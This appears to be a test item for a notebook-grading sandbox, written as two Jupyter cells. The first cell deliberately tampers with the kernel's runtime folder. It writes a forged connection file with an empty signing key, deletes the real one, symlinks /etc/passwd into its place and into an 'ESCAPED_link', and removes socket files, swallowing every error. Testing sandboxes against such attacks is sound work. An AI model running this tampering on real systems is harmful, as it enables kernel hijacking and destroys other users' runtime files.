"""The folder of the kernel's connection file is used as a door: files and links are left there, the file is replaced,
and further kernels are announced."""
# exercise: none
# expect: graded
# spares: scores

# %% free after test_scores
import glob, json, os
from ipykernel.connect import get_connection_file

def attempt(action, *args):
    try:
        action(*args)
    except OSError:
        pass

try:
    path = get_connection_file()
except Exception:
    path = os.path.join(os.environ.get("JUPYTER_RUNTIME_DIR", "."), "kernel.json")
folder = os.path.dirname(path)
forged = json.dumps({"transport": "tcp", "ip": "127.0.0.1", "key": "", "shell_port": 48213, "iopub_port": 48213,
                     "stdin_port": 48213, "control_port": 48213, "hb_port": 48213, "signature_scheme": "hmac-sha256"})
for target in (path, os.path.join(folder, "kernel-1.json")):
    attempt(lambda: open(target, "w").write(forged))
attempt(os.remove, path)
attempt(os.symlink, "/etc/passwd", path)
attempt(os.symlink, "/etc/passwd", os.path.join(folder, "ESCAPED_link"))
for sock in glob.glob(os.path.join(folder, "*-[0-9]*")):
    attempt(os.remove, sock)

# %% twin: free after test_scores
from ipykernel.connect import get_connection_info

try:
    print(len(get_connection_info()))      # as the documentation shows it
except Exception as error:
    print("not here:", type(error).__name__)
